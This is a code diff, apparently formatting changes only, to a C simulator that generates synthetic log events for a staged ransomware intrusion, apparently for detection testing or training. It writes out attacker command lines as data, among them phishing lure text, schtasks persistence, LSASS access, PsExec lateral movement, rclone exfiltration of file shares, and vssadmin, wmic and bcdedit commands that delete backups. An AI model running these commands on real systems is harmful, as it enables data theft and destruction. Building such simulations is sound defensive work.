@@ -70,10 +70,11 @@ void act_lure_mail(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
                  "Windows computer and complete the assessment before our call.",
                  o->users[u].first);
     else
-        snprintf(text, sizeof text,
-                 "Hello %s, please see the attached remittance for invoice past due. Kindly review and confirm "
-                 "payment today to avoid late fees.",
-                 o->users[u].first);
+        snprintf(
+            text, sizeof text,
+            "Hello %s, please see the attached remittance for invoice past due. Kindly review and confirm "
+            "payment today to avoid late fees.",
+            o->users[u].first);
     sim_mail m = {.ts = t,
                   .from_name = name,
                   .from_addr = from,
@@ -113,7 +114,8 @@ void act_open_attachment(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     const char *outlook = "C:\\Program Files (x86)\\Microsoft Office\\Office15\\OUTLOOK.EXE";
     char user[48], path[200], img[160], cmd[400], hashes[160];
     sim_dom_user(x, us, user);
-    snprintf(path, sizeof path, "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%08X\\%s",
+    snprintf(path, sizeof path,
+             "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%08X\\%s",
              us->name, (unsigned)(sim_next(&x->crng) & 0xffffffff), lure);
     sim_sm_file(x, ws, t, user, outlook, path);
     camp_tool_hashes(c, "loader", hashes, sizeof hashes);
@@ -121,8 +123,8 @@ void act_open_attachment(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     if (ends_with(loader, ".dll")) { /* a shortcut in the image runs the DLL */
         snprintf(img, sizeof img, "E:\\%s", loader);
         snprintf(cmd, sizeof cmd, "\"C:\\Windows\\System32\\rundll32.exe\" %s,DllRegisterServer", img);
-        sim_sm_process(x, ws, t1, user, "C:\\Windows\\System32\\rundll32.exe", cmd, "C:\\Windows\\explorer.exe",
-                       NULL);
+        sim_sm_process(x, ws, t1, user, "C:\\Windows\\System32\\rundll32.exe", cmd,
+                       "C:\\Windows\\explorer.exe", NULL);
         snprintf(c->implant_path, sizeof c->implant_path, "C:\\Windows\\System32\\rundll32.exe");
         sim_sm_image_load(x, ws, t1 + SIM_US / 2, user, c->implant_path, img, hashes, NULL);
     } else {
@@ -136,10 +138,12 @@ void act_open_attachment(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
             sim_sm_file(x, ws, t1 + 4 * SIM_US, user, img, p1);
             sim_sm_file(x, ws, t1 + 4 * SIM_US + 300000, user, img, p2);
             snprintf(cmd, sizeof cmd,
-                     "schtasks.exe /CREATE /SC DAILY /MO 1 /ST 10:30 /TN %.40s /TR \"C:\\Windows\\system32\\cmd.exe "
+                     "schtasks.exe /CREATE /SC DAILY /MO 1 /ST 10:30 /TN %.40s /TR "
+                     "\"C:\\Windows\\system32\\cmd.exe "
                      "/c start /min %.150s %08X\" /F",
                      task, p1, (unsigned)(sim_mix(x->seed) & 0xffffffff));
-            sim_sm_process(x, ws, t1 + 6 * SIM_US, user, "C:\\Windows\\System32\\schtasks.exe", cmd, img, NULL);
+            sim_sm_process(x, ws, t1 + 6 * SIM_US, user, "C:\\Windows\\System32\\schtasks.exe", cmd, img,
+                           NULL);
             snprintf(c->implant_path, sizeof c->implant_path, "%s", p1);
         } else {
             snprintf(c->implant_path, sizeof c->implant_path, "%s", img);
@@ -254,13 +258,14 @@ void act_lsass_read(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_dom_user(x, us, user);
     implant_image(x, us, impl, sizeof impl);
     uint64_t r = sim_next(&x->crng);
-    snprintf(trace, sizeof trace,
-             "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(%016llX)|"
-             "UNKNOWN(%016llX)",
-             (unsigned long long)(0x1a0000000ULL + (r & 0xfffffff)),
-             (unsigned long long)(0x1a0000000ULL + ((r >> 28) & 0xfffffff)));
-    sim_sm_process_access(x, ws, t, user, impl, "C:\\Windows\\system32\\lsass.exe", k % 2 ? "0x1FFFFF" : "0x1010",
-                          trace);
+    snprintf(
+        trace, sizeof trace,
+        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(%016llX)|"
+        "UNKNOWN(%016llX)",
+        (unsigned long long)(0x1a0000000ULL + (r & 0xfffffff)),
+        (unsigned long long)(0x1a0000000ULL + ((r >> 28) & 0xfffffff)));
+    sim_sm_process_access(x, ws, t, user, impl, "C:\\Windows\\system32\\lsass.exe",
+                          k % 2 ? "0x1FFFFF" : "0x1010", trace);
     sim_ev_explicit(x, ws, t + (int64_t)(60 + sim_below(&x->crng, 600)) * SIM_US, us, o->users[c->admin].name,
                     o->hosts[o->dcs[0]].fqdn, CMD);
     camp_touch_user(s, u);
@@ -285,8 +290,8 @@ void act_psexec(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     snprintf(pimg, sizeof pimg, "C:\\Users\\Public\\%s", pse);
     sim_dom_user(x, a, user);
     snprintf(srcuser, sizeof srcuser, "%s", user);
-    snprintf(cmd, sizeof cmd, "%s \\\\%s -accepteula -s -d cmd.exe /c \"C:\\Windows\\Temp\\%s\"", pse, dst->name,
-             camp_tool_name(c, "implant", "update.exe"));
+    snprintf(cmd, sizeof cmd, "%s \\\\%s -accepteula -s -d cmd.exe /c \"C:\\Windows\\Temp\\%s\"", pse,
+             dst->name, camp_tool_name(c, "implant", "update.exe"));
     sim_sm_process(x, src, t, srcuser, pimg, cmd, CMD, NULL);
     sim_ev_explicit(x, src, t + 200000, a, a->name, dst->fqdn, pimg);
     sim_ntlm(x, t + SIM_US / 2, src->ip, dst, a->name, true);
@@ -294,9 +299,12 @@ void act_psexec(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_ev_logon(x, dst, t + SIM_US + 20000, a, 3, src->ip, src->nb, 0x6100000 + k, true);
     sim_sm_file(x, dst, t + 2 * SIM_US, "NT AUTHORITY\\SYSTEM", "System", "C:\\Windows\\PSEXESVC.exe");
     sim_smb_map(x, t + 2 * SIM_US, src->ip, dst, "IPC$", uid);
-    sim_ev_service(x, dst, t + 3 * SIM_US, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "user mode service", NULL);
-    snprintf(cmd, sizeof cmd, "cmd.exe /c \"C:\\Windows\\Temp\\%s\"", camp_tool_name(c, "implant", "update.exe"));
-    sim_sm_process(x, dst, t + 4 * SIM_US, "NT AUTHORITY\\SYSTEM", CMD, cmd, "C:\\Windows\\PSEXESVC.exe", NULL);
+    sim_ev_service(x, dst, t + 3 * SIM_US, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "user mode service",
+                   NULL);
+    snprintf(cmd, sizeof cmd, "cmd.exe /c \"C:\\Windows\\Temp\\%s\"",
+             camp_tool_name(c, "implant", "update.exe"));
+    sim_sm_process(x, dst, t + 4 * SIM_US, "NT AUTHORITY\\SYSTEM", CMD, cmd, "C:\\Windows\\PSEXESVC.exe",
+                   NULL);
     camp_own(c, to);
     camp_touch_host(s, from);
     camp_touch_host(s, to);
@@ -329,8 +337,18 @@ void act_rdp_tunnel(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_sm_process(x, src, t, sim_dom_user(x, us, user), img, cmd, CMD, NULL);
     int64_t dur = (int64_t)(30 + sim_below(&x->crng, 90)) * SIM_MIN;
     uint64_t bytes = 3000000 + sim_below(&x->crng, 20000000);
-    sim_conn tc = {t + SIM_US, dur + 2 * SIM_MIN, src->ip, c2ip, (uint16_t)(49152 + sim_below(&x->crng, 16000)),
-                   c2port, "tcp", "ssh", bytes / 6, bytes, "SF", 0};
+    sim_conn tc = {t + SIM_US,
+                   dur + 2 * SIM_MIN,
+                   src->ip,
+                   c2ip,
+                   (uint16_t)(49152 + sim_below(&x->crng, 16000)),
+                   c2port,
+                   "tcp",
+                   "ssh",
+                   bytes / 6,
+                   bytes,
+                   "SF",
+                   0};
     sim_net_conn(x, &tc, uid);
     sim_rdp(x, t + 40 * SIM_US, src->ip, dst, a->name, dur, bytes, uid);
     /* RDP into the target with the actor's own machine name */
@@ -363,7 +381,8 @@ void act_cloud_exfil(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     snprintf(img, sizeof img, "C:\\Windows\\Temp\\%s", up);
     if (rclone)
         snprintf(cmd, sizeof cmd,
-                 "%s copy \\\\%s\\D$\\Shares remote:backup -q --ignore-existing --auto-confirm --multi-thread-streams "
+                 "%s copy \\\\%s\\D$\\Shares remote:backup -q --ignore-existing --auto-confirm "
+                 "--multi-thread-streams "
                  "12 --transfers 12",
                  up, o->hosts[o->fs[k % o->nfs]].name);
     else
@@ -374,8 +393,8 @@ void act_cloud_exfil(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     sim_dns(x, t + 100000, st->ip, host, ip, uid);
     uint64_t bytes = (uint64_t)(s->gb * 1e9 / s->count * (0.6 + 0.8 * sim_unit(&x->crng)));
     sim_sm_netconn(x, st, t + 200000, user, img, ip, 443, host);
-    sim_tls(x, t + 200000, st->ip, ip, 443, host, bytes, bytes / 300 + 5000, (int64_t)(bytes / 6000000 + 1) * SIM_US,
-            uid);
+    sim_tls(x, t + 200000, st->ip, ip, 443, host, bytes, bytes / 300 + 5000,
+            (int64_t)(bytes / 6000000 + 1) * SIM_US, uid);
     camp_touch_host(s, c->stage);
     camp_touch_user(s, c->admin);
 }
@@ -389,10 +408,10 @@ void act_shadow_delete(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     uint32_t h = camp_wave_host(x, k);
     sim_host *d = &x->org.hosts[h];
     const char *sys = "NT AUTHORITY\\SYSTEM";
-    sim_sm_process(x, d, t, sys, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD,
-                   NULL);
-    sim_sm_process(x, d, t + 3 * SIM_US, sys, "C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive",
-                   CMD, NULL);
+    sim_sm_process(x, d, t, sys, "C:\\Windows\\System32\\vssadmin.exe",
+                   "vssadmin.exe delete shadows /all /quiet", CMD, NULL);
+    sim_sm_process(x, d, t + 3 * SIM_US, sys, "C:\\Windows\\System32\\wbem\\WMIC.exe",
+                   "wmic.exe shadowcopy delete /nointeractive", CMD, NULL);
     sim_sm_process(x, d, t + 5 * SIM_US, sys, "C:\\Windows\\System32\\bcdedit.exe",
                    "bcdedit.exe /set {default} recoveryenabled No", CMD, NULL);
     camp_touch_host(s, h);
@@ -441,8 +460,8 @@ void act_encrypt(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
     snprintf(cmd, sizeof cmd, "%s -forcepath C:\\", img);
     camp_tool_hashes(c, "ransomware", hashes, sizeof hashes);
     sim_sm_process(x, d, t, sys, img, cmd, "C:\\Windows\\PSEXESVC.exe", hashes);
-    static const char *const dirs[] = {"C:\\Users\\Public\\Documents", "D:\\Shares\\Finance", "D:\\Shares\\Production",
-                                       "C:\\ProgramData\\Backup"};
+    static const char *const dirs[] = {"C:\\Users\\Public\\Documents", "D:\\Shares\\Finance",
+                                       "D:\\Shares\\Production", "C:\\ProgramData\\Backup"};
     static const char *const exts[] = {"docx", "xlsx", "pdf", "mov", "psd", "bak"};
     int64_t at = t + SIM_US;
     for (uint32_t dn = 0; dn < NEL(dirs); dn++) {
@@ -489,8 +508,8 @@ void act_cleanup(sim_ctx *x, sim_step *s, uint32_t k, int64_t t)
         snprintf(p, sizeof p, "C:\\ProgramData\\%s", camp_tool_name(c, "tunnel", "plink.exe"));
         sim_sm_process(x, d, t, user, CMD, "cmd.exe /c del /f /q C:\\ProgramData\\*.exe", CMD, NULL);
         sim_sm_delete(x, d, t + 100000, user, CMD, p, true);
-        sim_sm_process(x, d, t + 2 * SIM_US, user, "C:\\Windows\\System32\\sc.exe", "sc.exe delete WinsSchMgmt", CMD,
-                       NULL);
+        sim_sm_process(x, d, t + 2 * SIM_US, user, "C:\\Windows\\System32\\sc.exe",
+                       "sc.exe delete WinsSchMgmt", CMD, NULL);
     }
     camp_touch_host(s, h);
     camp_touch_user(s, c->admin);
